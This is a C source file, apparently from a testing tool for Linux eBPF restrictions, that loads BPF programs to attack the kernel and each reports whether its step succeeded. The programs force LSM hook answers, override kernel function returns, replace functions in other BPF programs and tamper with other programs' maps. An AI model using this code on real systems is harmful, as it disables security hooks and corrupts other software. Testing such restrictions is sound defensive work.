/* SPDX-License-Identifier: GPL-2.0-only */
/* Attacks by programs that are loaded for the purpose. */
#include "attack.h"

#include <fcntl.h>
#include <linux/btf.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#define INSN(c, d, s, o, i) ((struct bpf_insn){ .code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i) })
#define SET(reg, value)	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, reg, 0, 0, value)
#define COPY(to, from)	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, to, from, 0, 0)
#define ADD(reg, value)	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, reg, 0, 0, value)
#define STORE(size, reg, o, value) INSN(BPF_ST | BPF_MEM | (size), reg, 0, o, value)
#define CALL(function)	    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, function)
#define IF_ZERO(reg, skip)  INSN(BPF_JMP | BPF_JEQ | BPF_K, reg, 0, skip, 0)
#define MAP(reg, fd)	    INSN(BPF_LD | BPF_DW | BPF_IMM, reg, BPF_PSEUDO_MAP_FD, 0, fd), INSN(0, 0, 0, 0, 0)
#define END		    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)

static int load(union bpf_attr *attr, const struct bpf_insn *insns, size_t n)
{
	attr->insns = POINTER(insns);
	attr->insn_cnt = n;
	attr->license = POINTER("GPL");
	return BPF(BPF_PROG_LOAD, attr);
}

#define LOAD(attr, insns) load((attr), (insns), sizeof(insns) / sizeof(*(insns)))

static size_t btf_extra(const struct btf_type *t)
{
	size_t n = BTF_INFO_VLEN(t->info);

	switch (BTF_INFO_KIND(t->info)) {
	case BTF_KIND_INT:
	case BTF_KIND_VAR:
	case BTF_KIND_DECL_TAG:
		return 4;
	case BTF_KIND_ARRAY:
		return sizeof(struct btf_array);
	case BTF_KIND_STRUCT:
	case BTF_KIND_UNION:
	case BTF_KIND_DATASEC:
	case BTF_KIND_ENUM64:
		return 12 * n;
	case BTF_KIND_ENUM:
	case BTF_KIND_FUNC_PROTO:
		return 8 * n;
	}
	return 0;
}

uint32_t kernel_function(const char *name)
{
	int fd = open("/sys/kernel/btf/vmlinux", O_RDONLY);
	const struct btf_header *h;
	const char *types, *strings;
	struct stat st;
	size_t done = 0;
	char *data;

	if (fd < 0 || fstat(fd, &st) < 0 || !(data = malloc(st.st_size)))
		return 0;
	for (ssize_t n; (n = read(fd, data + done, st.st_size - done)) > 0;)
		done += n;
	close(fd);
	h = (const void *)data;
	types = data + h->hdr_len + h->type_off;
	strings = data + h->hdr_len + h->str_off;
	for (uint32_t id = 1, off = 0; off < h->type_len; id++) {
		const struct btf_type *t = (const void *)(types + off);

		if (BTF_INFO_KIND(t->info) == BTF_KIND_FUNC && strcmp(strings + t->name_off, name) == 0)
			return id;
		off += sizeof(*t) + btf_extra(t);
	}
	return 0;
}

static int attach(int prog)
{
	union bpf_attr attr = { .raw_tracepoint = { .prog_fd = prog } };

	return BPF(BPF_RAW_TRACEPOINT_OPEN, &attr);
}

/* A program that answers for a function of the kernel's, and then what is done meanwhile. */
static int answer(char **argv, uint32_t type, uint32_t attach_type, const char *function)
{
	struct bpf_insn insns[] = { SET(0, atoi(argv[1])), END };
	union bpf_attr attr = { .prog_type = type, .expected_attach_type = attach_type,
				.attach_btf_id = kernel_function(function) };
	int fd = attr.attach_btf_id ? LOAD(&attr, insns) : -1;
	int r = tell("load", fd);

	if (r == WORKED)
		r = tell("attach", attach(fd));
	return r == WORKED ? then(argv + 2) : r;
}

/* fmod-ret FUNCTION ANSWER [COMMAND...] */
int attack_fmod_ret(char **argv)
{
	return answer(argv, BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN, argv[0]);
}

/* lsm HOOK ANSWER [COMMAND...] */
int attack_lsm(char **argv)
{
	char function[128];

	snprintf(function, sizeof(function), "bpf_lsm_%s", argv[0]);
	return answer(argv, BPF_PROG_TYPE_LSM, BPF_LSM_MAC, function);
}

/* lsm-cgroup CGROUP HOOK ANSWER [COMMAND...] */
int attack_lsm_cgroup(char **argv)
{
	struct bpf_insn insns[] = { SET(1, atoi(argv[2])), CALL(BPF_FUNC_set_retval), SET(0, 1), END };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_LSM, .expected_attach_type = BPF_LSM_CGROUP };
	char function[128];
	int fd, r;

	snprintf(function, sizeof(function), "bpf_lsm_%s", argv[1]);
	attr.attach_btf_id = kernel_function(function);
	fd = LOAD(&attr, insns);
	r = tell("load", fd);
	if (r == WORKED) {
		union bpf_attr link = { .link_create = { .prog_fd = fd, .target_fd = open(argv[0], O_RDONLY),
							 .attach_type = BPF_LSM_CGROUP } };

		r = tell("attach", BPF(BPF_LINK_CREATE, &link));
	}
	return r == WORKED ? then(argv + 3) : r;
}

/* One function of a program, the main one or another, by one that returns 0. */
static int replace_function(int target, int btf, uint32_t function)
{
	struct bpf_insn insns[] = { SET(0, 0), END };
	struct bpf_func_info info = { .insn_off = 0, .type_id = function };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_EXT, .attach_prog_fd = target,
				.attach_btf_id = function, .prog_btf_fd = btf, .func_info = POINTER(&info),
				.func_info_cnt = 1, .func_info_rec_size = sizeof(info) };
	int fd = LOAD(&attr, insns);

	return fd < 0 ? fd : attach(fd);
}

/* freplace PROGRAM [COMMAND...]: each of its functions; worked if it does with any */
int attack_freplace(char **argv)
{
	int fd = prog_by_id(atoi(argv[0])), btf, r = COULD_NOT;
	struct bpf_func_info functions[64];
	struct bpf_prog_info info = { .nr_func_info = 64, .func_info = POINTER(functions),
				      .func_info_rec_size = sizeof(*functions) };
	union bpf_attr attr = { .info = { .bpf_fd = fd, .info_len = sizeof(info), .info = POINTER(&info) } };

	if (fd < 0 || BPF(BPF_OBJ_GET_INFO_BY_FD, &attr) < 0)
		return tell("look at the program", -1);
	attr = (union bpf_attr){ .btf_id = info.btf_id };
	btf = BPF(BPF_BTF_GET_FD_BY_ID, &attr);
	for (uint32_t i = 0; btf >= 0 && i < info.nr_func_info && i < 64; i++) {
		int one;

		printf("function %u of %u: ", i, info.nr_func_info);
		one = tell("replace", replace_function(fd, btf, functions[i].type_id));
		if (one == WORKED || r == COULD_NOT)
			r = one;
	}
	return r == WORKED ? then(argv + 1) : r;
}

int load_sysctl_program(void)
{
	struct bpf_insn insns[] = { SET(0, 1), END };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_CGROUP_SYSCTL,
				.expected_attach_type = BPF_CGROUP_SYSCTL };

	return LOAD(&attr, insns);
}

static int run(int prog)
{
	uint64_t context[2] = { 0 };
	union bpf_attr attr = { .test = { .prog_fd = prog, .ctx_in = POINTER(context),
					  .ctx_size_in = sizeof(context) } };
	int r = BPF(BPF_PROG_RUN, &attr);

	return r < 0 ? r : (int)attr.test.retval;
}

/* program ID: one that adds 0 to the first value of an array */
int attack_program(char **argv)
{
	struct bpf_insn insns[] = {
		STORE(BPF_DW, 10, -8, 0), MAP(1, map_by_id(atoi(argv[0]))),
		COPY(2, 10), ADD(2, -8), CALL(BPF_FUNC_map_lookup_elem),
		IF_ZERO(0, 2), SET(1, 0),
		INSN(BPF_STX | BPF_ATOMIC | BPF_DW, 0, 1, 0, BPF_ADD),
		SET(0, 0), END,
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT };
	int fd = LOAD(&attr, insns), r = tell("load", fd);

	return r == WORKED ? tell("run", run(fd)) : r;
}

/* inner ID KEY VALUE: writes 8 bytes of key and 4 of value to a map that it has from another map */
int attack_inner(char **argv)
{
	struct bpf_map_info info;
	int map = map_by_id(atoi(argv[0])), template, outer, fd, r, zero = 0;
	union bpf_attr attr;

	if (map_info(map, &info) < 0)
		return tell("look at the map", -1);
	attr = (union bpf_attr){ .map_type = info.type, .key_size = info.key_size, .value_size = info.value_size,
				 .max_entries = info.max_entries, .map_flags = info.map_flags };
	template = BPF(BPF_MAP_CREATE, &attr);
	attr = (union bpf_attr){ .map_type = BPF_MAP_TYPE_ARRAY_OF_MAPS, .key_size = 4, .value_size = 4,
				 .max_entries = 1, .inner_map_fd = template };
	outer = BPF(BPF_MAP_CREATE, &attr);
	attr = (union bpf_attr){ .map_fd = outer, .key = POINTER(&zero), .value = POINTER(&map) };
	r = tell("put it into a map", BPF(BPF_MAP_UPDATE_ELEM, &attr));
	if (r != WORKED)
		return r;

	struct bpf_insn insns[] = {
		STORE(BPF_DW, 10, -8, 0), MAP(1, outer),
		COPY(2, 10), ADD(2, -8), CALL(BPF_FUNC_map_lookup_elem),
		IF_ZERO(0, 10), COPY(1, 0),
		STORE(BPF_DW, 10, -8, atoi(argv[1])), STORE(BPF_DW, 10, -16, atoi(argv[2])),
		COPY(2, 10), ADD(2, -8), COPY(3, 10), ADD(3, -16), SET(4, 0),
		CALL(BPF_FUNC_map_update_elem), END,
		SET(0, -1), END,
	};
	attr = (union bpf_attr){ .prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT };
	fd = LOAD(&attr, insns);
	r = tell("load", fd);
	return r == WORKED ? tell("run", run(fd)) : r;
}

/* iterator ID: one over the elements of a map that writes to each what is there */
int attack_iterator(char **argv)
{
	struct bpf_insn insns[] = {
		INSN(BPF_LDX | BPF_MEM | BPF_DW, 6, 1, 24, 0), /* bpf_iter__bpf_map_elem.value */
		IF_ZERO(6, 2),
		INSN(BPF_LDX | BPF_MEM | BPF_W, 2, 6, 0, 0),
		INSN(BPF_STX | BPF_MEM | BPF_W, 6, 2, 0, 0),
		SET(0, 0), END,
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_TRACING, .expected_attach_type = BPF_TRACE_ITER,
				.attach_btf_id = kernel_function("bpf_iter_bpf_map_elem") };
	union bpf_iter_link_info info = { .map.map_fd = map_by_id(atoi(argv[0])) };
	int fd = LOAD(&attr, insns), r = tell("load", fd);
	char nothing[64];

	if (r == WORKED) {
		attr = (union bpf_attr){ .link_create = { .prog_fd = fd, .attach_type = BPF_TRACE_ITER,
							  .iter_info = POINTER(&info),
							  .iter_info_len = sizeof(info) } };
		fd = BPF(BPF_LINK_CREATE, &attr);
		r = tell("attach", fd);
	}
	if (r != WORKED)
		return r;
	attr = (union bpf_attr){ .iter_create = { .link_fd = fd } };
	fd = BPF(BPF_ITER_CREATE, &attr);
	return tell("iterate", fd < 0 ? fd : read(fd, nothing, sizeof(nothing)));
}
